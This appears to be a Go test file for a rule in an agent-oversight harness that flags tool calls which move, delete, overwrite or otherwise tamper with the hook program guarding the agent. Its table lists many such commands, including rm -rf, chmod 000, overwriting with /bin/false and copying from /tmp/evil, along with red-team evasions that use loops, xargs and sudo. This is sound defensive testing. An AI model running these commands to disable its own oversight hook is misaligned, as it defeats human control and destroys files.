package match

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
)

func TestChangesHookProgram(t *testing.T) {
	t.Parallel()
	home := t.TempDir()
	bin := filepath.Join(home, "go", "bin")
	if err := os.MkdirAll(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	prog := filepath.Join(bin, "hookcore-hook")
	if err := os.WriteFile(prog, []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(bin, filepath.Join(home, "b")); err != nil {
		t.Fatal(err)
	}
	proj := filepath.Join(home, "proj")
	const line = `args.command changes hook_program`
	const file = `file_path changes hook_program`
	for _, tc := range []struct {
		name, expr, tool, cmd string
		want                  bool
	}{
		{"mv the directory", line, "Bash", "mv ~/go/bin ~/go/bin.old", true},
		{"mv an ancestor", line, "Bash", "mv ~/go ~/og", true},
		{"mv after cd", line, "Bash", "cd ~/go && mv bin b", true},
		{"mv after a relative cd", line, "Bash", "cd .. && mv go/bin b", true},
		{"mv after an unknown cd", line, "Bash", "cd $D && mv bin b", true},
		{"ln -sfn", line, "Bash", "ln -sfn /nonexistent ~/go/bin", true},
		{"chmod -R", line, "Bash", "chmod -R a-x ~/go/bin", true},
		{"find -exec chmod", line, "Bash", "find ~/go -type f -exec chmod 000 {} +", true},
		{"find -delete", line, "Bash", "find ~/go -delete", true},
		{"mv home", line, "Bash", "mv ~ x", true},
		{"$HOME", line, "Bash", `mv "$HOME/go/bin/" /tmp/x`, true},
		{"${HOME}", line, "Bash", `mv ${HOME}/go /tmp/x`, true},
		{"absolute", line, "Bash", "mv " + bin + " /tmp/x", true},
		{"dot-dot", line, "Bash", "mv ~/go/x/../bin /tmp/x", true},
		{"glob", line, "Bash", "rm -rf ~/go/b?n", true},
		{"the program", line, "Bash", "rm ~/go/bin/hookcore-hook", true},
		{"bracket glob", line, "Bash", "rm -rf ~/g[o]", true},
		{"variable", line, "Bash", "mv $d /tmp/d", true},
		{"symlink to the directory", line, "Bash", "chmod 000 ~/b", true},
		{"sudo", line, "Bash", "sudo mv ~/go /tmp/g", true},
		{"sh -c", line, "Bash", "sh -c 'mv ~/go /tmp/g'", true},
		{"relative in the home", line, "Bash", "cd ~ && rm -rf go", true},
		{"ls", line, "Bash", "ls -la ~/go/bin", false},
		{"cd", line, "Bash", "cd ~/go", false},
		{"cat the program", line, "Bash", "cat ~/go/bin/hookcore-hook > /dev/null", false},
		{"project files", line, "Bash", "mv build/a build/b && rm -rf build/tmp", false},
		{"glob elsewhere", line, "Bash", "cd /tmp/work && rm -rf *", false},
		{"a new file beside it", line, "Bash", "chmod +x ~/go/bin/tool && rm ~/go/bin/old", false},
		{"a sibling", line, "Bash", "rm -rf ~/go/pkg", false},
		{"find without action", line, "Bash", "find ~/go -name x", false},
		{"find elsewhere", line, "Bash", "find . -name '*.o' -exec rm {} +", false},
		{"redirect over each file after cd", line, "Bash", `cd ~/go/bin && for f in *; do printf '#!/bin/sh\nexit 0\n' > "$f"; done`, true},
		{"redirect to a variable", line, "Bash", `printf x > "$f"`, true},
		{"redirect to the program", line, "Bash", "echo > ~/go/bin/hookcore-hook", true},
		{"redirect relative after cd", line, "Bash", "cd ~/go/bin && cat /bin/false >> hookcore-hook", true},
		{"redirect in sh -c", line, "Bash", `sh -c 'cat x > ~/go/bin/hookcore-hook'`, true},
		{"tee a glob", line, "Bash", "cd ~/go/bin && cat /bin/false | tee *", true},
		{"cp onto a glob", line, "Bash", "cd ~/go && cp /bin/false bin/*", true},
		{"cp -rT", line, "Bash", "cp -rT /tmp/evil ~/go/bin", true},
		{"cp dir/.", line, "Bash", "cp -r /tmp/evil/. ~/go/bin/", true},
		{"cp a glob into the directory", line, "Bash", "cp -r --remove-destination /tmp/evil/* ~/go/bin/", true},
		{"cp -t", line, "Bash", "cp -t ~/go/bin /tmp/evil/*", true},
		{"cp a file of the program's name", line, "Bash", "cp /tmp/hookcore-hook ~/go/bin/", true},
		{"cp a bin into an ancestor", line, "Bash", "cp -r /tmp/bin ~/go", true},
		{"rsync contents", line, "Bash", "rsync -a /tmp/evil/ ~/go/bin/", true},
		{"tar -C", line, "Bash", "tar -xf p.tar -C ~/go/bin", true},
		{"tar old style after cd", line, "Bash", "cd ~/go/bin && tar xzf /tmp/p.tgz", true},
		{"tar --directory=", line, "Bash", "tar --extract --file p.tar --directory=$HOME/go", true},
		{"unzip -d", line, "Bash", "unzip -o p.zip -d ~/go/bin", true},
		{"cpio -i after cd", line, "Bash", "cd ~/go/bin && cpio -idm < /tmp/p.cpio", true},
		{"dd of=", line, "Bash", "dd if=/bin/false of=$HOME/go/bin/hookcore-hook", true},
		{"sed -i", line, "Bash", "sed -i 's/a/b/' ~/go/bin/hookcore-hook", true},
		{"curl -o", line, "Bash", "curl -so ~/go/bin/hookcore-hook https://x", true},
		{"go build -o", line, "Bash", "go build -o ~/go/bin/hookcore-hook ./evil", true},
		{"install -d -m", line, "Bash", "install -d -m 000 ~/go/bin", true},
		{"install -dm on an ancestor", line, "Bash", "install -dm000 ~/go", true},
		{"install onto the program", line, "Bash", "install -m 755 /bin/false ~/go/bin/hookcore-hook", true},
		{"cp another name into the directory", line, "Bash", "cp x ~/go/bin/other && cp -r tool ~/go/bin/", false},
		{"cp the program out", line, "Bash", "cp ~/go/bin/hookcore-hook /tmp/backup", false},
		{"tee elsewhere", line, "Bash", "cd ~/go/bin && ls | tee /tmp/list", false},
		{"redirect beside it", line, "Bash", "echo x > ~/go/bin/notes && ./x 2>&1 > /dev/null", false},
		{"tar elsewhere", line, "Bash", "tar -xf p.tar -C /tmp/x && tar -tf ~/p.tar && unzip -l ~/go/bin/x.zip", false},
		{"sed -n on the program", line, "Bash", "sed -n 1p ~/go/bin/hookcore-hook", false},
		{"sed -i $d elsewhere", line, "Bash", "sed -i '$d' notes.txt", false},
		{"install -d elsewhere", line, "Bash", "install -d -m 700 ~/go/bin/sub /tmp/x", false},
		{"rsync a dir into it", line, "Bash", "rsync -a /tmp/tool ~/go/bin/", false},
		{"gzip a glob", line, "Bash", "gzip ~/go/bin/*", true},
		{"gzip -r", line, "Bash", "gzip -r ~/go/bin", true},
		{"gzip -r an ancestor", line, "Bash", "gzip -r ~/go", true},
		{"xz a glob", line, "Bash", "xz ~/go/bin/h*", true},
		{"tar --remove-files", line, "Bash", "tar --remove-files -cf /tmp/a.tar ~/go/bin", true},
		{"tar --remove-files an ancestor", line, "Bash", "tar --remove-files -cf /tmp/a.tar ~/go", true},
		{"zip -rm", line, "Bash", "zip -rm /tmp/a.zip ~/go/bin", true},
		{"zip -m an ancestor", line, "Bash", "zip -r -m /tmp/a.zip ~", true},
		{"find -fprint", line, "Bash", "find /nonexist -fprint ~/go/bin/*-hook", true},
		{"script", line, "Bash", "script -q -c true ~/go/bin/*-hook", true},
		{"objcopy", line, "Bash", "objcopy -O binary ~/go/bin/*-hook", true},
		{"rsync --remove-source-files", line, "Bash", "rsync -a --remove-source-files ~/go/bin/ /tmp/x/", true},
		{"cpio -i in the cwd", line, "Bash", "cpio -idmu < /tmp/p.cpio", true},
		{"unknown command after cd", line, "Bash", "cd ~/go/bin && strip hookcore-hook", true},
		{"readers", line, "Bash", "sha256sum ~/go/bin/* && file ~/go/bin/hookcore-hook && strings ~/go/bin/h* | grep x ~/go/bin/*", false},
		{"find -name without action", line, "Bash", "find ~/go/bin -name '*-hook' -print", false},
		{"gzip elsewhere", line, "Bash", "gzip -r ./build && gzip ~/go/pkg/x", false},
		{"gzip beside it", line, "Bash", "xz ~/go/bin/other.tar", false},
		{"cpio -i listing or relative", line, "Bash", "cpio -it < /tmp/p.cpio && cpio -id --no-absolute-filenames -D /tmp/x < /tmp/p.cpio", false},
		{"gzip in sh -c", line, "Bash", "sh -c 'gzip ~/go/bin/*'", true},
		{"gzip under an unknown wrapper", line, "Bash", "setpriv --reuid 0 gzip ~/go/bin/hookcore-hook", true},
		// A variable of unknown value is not taken for the program by the catch-all rule: any
		// command with a variable operand would be blocked (`go test -run $T`, `kill $pid`).
		{"gzip a variable", line, "Bash", `X=1 gzip "$f"`, false},
		{"a variable operand of another command", line, "Bash", `go test ./... -run $T && kill $pid && git checkout "$b"`, false},
		{"gzip a glob after an assignment", line, "Bash", `X=1 gzip ~/go/bin/*`, true},
		// Red team round 49: names that reach a command by other ways than its own words.
		{"a loop over the directory", line, "Bash", `for f in ~/go/bin/*; do gzip "$f"; done`, true},
		{"a loop after cd", line, "Bash", `cd ~/go/bin && for f in *; do gzip "$f"; done`, true},
		{"an array of the directory", line, "Bash", `a=(~/go/bin/*); gzip "${a[@]}"`, true},
		{"a command substitution naming it", line, "Bash", `gzip $(echo ~/go/bin)/*`, true},
		{"xargs fed the names", line, "Bash", `ls ~/go/bin/* | xargs gzip`, true},
		{"xargs chmod", line, "Bash", `echo ~/go/bin | xargs chmod -R 000`, true},
		{"an option's =PATH", line, "Bash", `git --git-dir=/tmp/evil/.git --work-tree=~/go/bin checkout -f HEAD`, true},
		{"a patch applied in the directory", line, "Bash", `cd ~/go/bin && git apply /tmp/x.patch`, true},
		{"patch in the directory", line, "Bash", `cd ~/go/bin && patch -p0 < /tmp/x.patch`, true},
		{"xargs elsewhere", line, "Bash", `ls *.go | xargs wc -l`, false},
		{"an option's =value elsewhere", line, "Bash", `git --work-tree=. status --porcelain=v1`, false},

		{"a reader under sudo", line, "Bash", "sudo cat ~/go/bin/hookcore-hook && X=1 ls ~/go/bin", false},
		{"rsync the program out", line, "Bash", "rsync -a ~/go/bin/ /tmp/x/", false},
		{"file tool at the directory", file, "Write", `~/go/bin`, true},
		{"file tool at the program", file, "Write", prog, true},
		{"file tool beside it", file, "Write", `~/go/bin/notes.txt`, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			key := "command"
			if tc.tool != "Bash" {
				key = "file_path"
			}
			if got := matchChanges(t, tc.expr, tc.tool, key, tc.cmd, proj, home, []string{prog}, nil); got != tc.want {
				t.Errorf("%s on %q = %v, want %v", tc.expr, tc.cmd, got, tc.want)
			}
		})
	}
}

func TestChangesHookProgramUnset(t *testing.T) {
	t.Parallel()
	f, err := CompileIf(`args.command changes hook_program`)
	if err != nil {
		t.Fatal(err)
	}
	if f.Match(NewSubject("PreToolUse", "Bash", json.RawMessage(`{"command":"mv / x"}`))) {
		t.Error("matched without a hook program")
	}
}

func TestChangesSyntax(t *testing.T) {
	t.Parallel()
	for _, expr := range []string{
		`args.command changes usr_bin`,
		`args.command changes /hook_program/`,
		`tool changes hook_program`,
		`args.path changes hook_program`,
	} {
		if _, err := CompileIf(expr); err == nil {
			t.Errorf("%s compiled", expr)
		}
	}
}
